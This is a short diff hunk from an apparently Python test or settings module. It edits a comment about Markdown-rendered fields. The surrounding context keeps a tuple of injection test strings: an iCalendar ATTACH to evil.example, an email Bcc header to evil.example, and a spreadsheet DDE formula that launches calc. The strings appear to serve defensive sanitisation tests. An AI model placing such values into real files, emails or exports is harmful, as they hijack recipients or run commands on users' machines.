@@ -37,7 +37,7 @@ PIECES = (
 LINES = ("ATTACH:https://evil.example/", "END:VEVENT", "Bcc: x@evil.example", "=cmd|' /C calc'!A0", ".", "\t-1")
 
 
-# written as Markdown, so that a page shows what the marks mean
+# written as Markdown, so that a page shows what the marks mean, not the marks: tests/knowledge/test_rendering.py
 MARKED_UP = {
     "knowledge.ChapterVersion.text",
     "knowledge.Faq.answer",
